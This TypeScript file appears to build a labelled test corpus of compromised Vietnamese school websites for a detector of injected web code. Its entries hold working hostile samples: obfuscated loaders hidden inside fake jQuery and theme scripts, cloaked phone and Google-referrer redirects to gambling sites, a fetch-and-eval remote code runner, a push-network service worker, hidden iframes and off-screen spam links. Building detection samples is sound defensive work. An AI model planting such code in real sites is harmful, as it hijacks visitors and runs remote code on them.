import {
  atEnd,
  type CorpusSite,
  inHead,
  insertBefore,
  isFromGoogle,
  isPhone,
  serve,
  site,
} from '../corpus-site.ts';
import { schoolPages } from '../school-pages.ts';

const javascript = (body: string) => ({ headers: { 'content-type': 'application/javascript' }, body });
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const codes = (text: string, shift: number): string =>
  Array.from(text, (one) => one.charCodeAt(0) + shift).join(',');
const escapes = (text: string): string =>
  Array.from(text, (one) => `\\x${one.charCodeAt(0).toString(16)}`).join('');
/** Code of a library as long as those of every day. */
const LIBRARY = ';function pad(t,n){return t+Array(n).join(" ")}'.repeat(900);
const JQUERY = '/wp-includes/js/jquery/jquery.min.js';

const withFile = (id: string, about: string, school: string, path: string, code: string): CorpusSite =>
  site('infected', id, about, { ...schoolPages('wordpress', school), [path]: javascript(code) });

const withEnd = (id: string, about: string, school: string, snippet: string): CorpusSite =>
  site(
    'infected',
    id,
    about,
    schoolPages('shared-portal', school, [], (html) => atEnd(html, snippet)),
  );

/** Planted code: in files of the site itself, in attributes, objects and workers. */
export const sites: readonly CorpusSite[] = [
  withFile(
    'shifted-codes-in-theme',
    'a theme script adds a script whose address is a list of shifted character codes',
    'Trường THCS Minh Tân Mới',
    '/wp-content/themes/flatsome/assets/js/flatsome.js',
    `var a=1;(function(){var k=[${codes('https://stat-vn24.top/go.js', 11)}],u=k.map(function(c){return String.fromCharCode(c-11)}).join('');var e=document.createElement('script');e.src=u;document.head.appendChild(e)})();`,
  ),
  withFile(
    'pieces-of-base64-in-file',
    'an own script joins pieces of base64 to the address of another script',
    'Trường THCS Ngũ Đoan Mới',
    JQUERY,
    `${LIBRARY}var _q=["aHR0cHM6Ly9j","ZG4tYW5hbHl0aWMuaWN1L2EuanM="];var z=document.createElement("script");z.src=atob(_q.join(""));document.body.appendChild(z);`,
  ),
  withFile(
    'loader-in-middle-of-library',
    'a loader with escaped words stands in the middle of a long library',
    'Trường Tiểu học Tân Trào Mới',
    JQUERY,
    `${LIBRARY};var _0x4f2a=['${[...Buffer.from('https://blacksaltys-mau.com/js')].map((byte) => `\\x${byte.toString(16)}`).join('')}','src'];(function(d,t){var s=d.createElement(t);s[_0x4f2a[1]]=_0x4f2a[0];d.head.appendChild(s)})(document,'script');${LIBRARY}`,
  ),
  withFile(
    'own-script-phones-once',
    'an own script sends phones away once, the address in pieces',
    'Trường THPT Đồ Sơn Mới',
    JQUERY,
    `${LIBRARY}if(/Android|iPhone/i.test(navigator.userAgent)&&!localStorage.getItem('r')){localStorage.setItem('r',1);self.location="https://"+"app-tai"+"ngay.top/ios"}`,
  ),
  site('infected', 'worker-of-push-network', 'a worker of the site itself takes the code of a push network', {
    ...schoolPages('nukeviet', 'Trường Tiểu học Trường Sơn Mới', [], (html) =>
      atEnd(html, `<script>navigator.serviceWorker.register('/sw-push.js')</script>`),
    ),
    '/sw-push.js': javascript(
      'self.options={"domain":"3nbf4-mau.com","zoneId":8123456};importScripts("https://3nbf4-mau.com/act/files/sw.js?r=sw");',
    ),
  }),
  withEnd(
    'zone-of-ad-network',
    'an ad network under a meaningless name is only known by its zone',
    'Trường THCS Phù Liễn Mới',
    `<script>(function(s){s.dataset.zone='9548741',s.src='https://al5sm-mau.com/tag.min.js'})(document.body.appendChild(document.createElement('script')))</script>`,
  ),
  withEnd(
    'once-by-cookie-in-script',
    'a script sends visitors away at their first visit only',
    'Trường Tiểu học Kim Đồng Mới',
    `<script>if(document.cookie.indexOf('_seen=1')<0){document.cookie='_seen=1;path=/';window.location.replace('https://vongquay-may-man.click/?s=1')}</script>`,
  ),
  withEnd(
    'window-on-any-click',
    'a click anywhere opens a window',
    'Trường Tiểu học Vạn Mỹ Mới',
    `<script>document.addEventListener('click',function(){window.open('https://lot79.club/?r=1','_blank')},{once:true})</script>`,
  ),
  withEnd(
    'object-without-size',
    'an object of no size shows a foreign page',
    'Trường THCS Cát Bi Mới',
    '<object type="text/html" data="https://vk8.bet/embed" width="0" height="0"></object>',
  ),
  withEnd(
    'code-in-error-attribute',
    'the code stands in the attribute of a picture that is not there',
    'Trường THCS Gia Minh Mới',
    `<img src="x" onerror="eval(atob('${base64('location.href="https://kqbd-live.co/?utm=edu"')}'))" style="display:none">`,
  ),
  withEnd(
    'order-in-string',
    'a redirect stands in a string for a timer',
    'Trường Tiểu học Lam Sơn Mới',
    `<script>setTimeout("window.location.href='https://sunwin.black/?a=edu'",2500)</script>`,
  ),
  {
    id: 'script-for-phones-alone',
    label: 'infected',
    about: 'only phones are given a script from a stranger',
    respond: (() => {
      const pages = schoolPages('wordpress', 'Trường THCS Hùng Thắng Mới');
      const planted = '<script src="https://js.trendmetrics.top/j.js"></script>';
      return serve({
        ...pages,
        '/': (request) => ({ body: isPhone(request) ? inHead(pages['/'], planted) : pages['/'] }),
      });
    })(),
  },
  {
    id: 'phone-from-google-alone',
    label: 'infected',
    about: 'only phones that come from Google are sent away, on every page',
    respond: (() => {
      const respond = serve(schoolPages('joomla', 'Trường Tiểu học Hòa Nghĩa Mới'));
      return (request) =>
        isFromGoogle(request) && isPhone(request)
          ? { status: 302, headers: { location: 'http://mylove-2u.ru/track' } }
          : respond(request);
    })(),
  },
  site(
    'infected',
    'pushed-off-by-file',
    'the theme\u2019s style sheet file pushes neutral links off the screen',
    {
      ...schoolPages('wordpress', 'Trường THCS Nam Sơn Mới', [], (html) =>
        inHead(
          insertBefore(
            html,
            '</body>',
            '<div class="wpz-7f3"><a href="https://bestvapeuk.store">vape uk</a><a href="https://luxurywatch.shop">watches</a><a href="https://fastloansnow.us">payday</a></div>',
          ),
          '<link rel="stylesheet" href="/giao-dien/chinh.css">',
        ),
      ),
      '/giao-dien/chinh.css': {
        headers: { 'content-type': 'text/css' },
        body: 'body{margin:0}.wpz-7f3{position:absolute;left:-9999px;top:0}.menu{list-style:none}',
      },
    },
  ),
  withEnd(
    'changed-characters',
    'each character of the address of a script is changed',
    'Trường THCS Quảng Hưng Mới',
    `<script>!function(){var t="${Array.from('https://tj-count.cyou/s.js', (one) => String.fromCharCode(one.charCodeAt(0) ^ 3)).join('')}",r="";for(var i=0;i<t.length;i++)r+=String.fromCharCode(t.charCodeAt(i)^3);var e=document.createElement("script");e.src=r;document.head.append(e)}()</script>`,
  ),
  withEnd(
    'code-fetched-and-run',
    'the code comes from elsewhere at each visit',
    'Trường THCS Quảng Châu Mới',
    `<script>fetch('https://api-cfg.sbs/c?d='+location.host).then(r=>r.text()).then(t=>eval(t))</script>`,
  ),
  withEnd(
    'words-in-list',
    'a redirect of phones is put together from a list of words',
    'Trường THCS Quảng Lộc Mới',
    `<script>var _0xa=['log','https://','m-tai','gamenhanh.fun'];if(/iPad|iPhone|Android/.test(navigator['userAgent'])){window['location']['href']=_0xa[1]+_0xa[2]+_0xa[3]}</script>`,
  ),
  withEnd(
    'escaped-words-in-list',
    'a redirect of phones has no plain word: names and address are written as escapes in a list',
    'Trường THCS Quảng Thái Mới',
    `<script>var _0x3c=['${escapes('https://')}','${escapes('m-choivui.fun')}'];if(/android|iphone/i.test(navigator['${escapes('userAgent')}'])){setTimeout(function(){top['${escapes('location')}']=_0x3c[0]+_0x3c[1]},900)}</script>`,
  ),
  {
    id: 'script-from-google-alone',
    label: 'infected',
    about: 'only visitors from Google are given a script that sends them away at once',
    respond: (() => {
      const pages = schoolPages('hand-made', 'Trường THCS Quảng Nham Mới');
      const planted = '<script>location.replace("https://quatang-vip.icu")</script>';
      return serve({
        ...pages,
        '/': (request) => ({ body: isFromGoogle(request) ? inHead(pages['/'], planted) : pages['/'] }),
      });
    })(),
  },
];
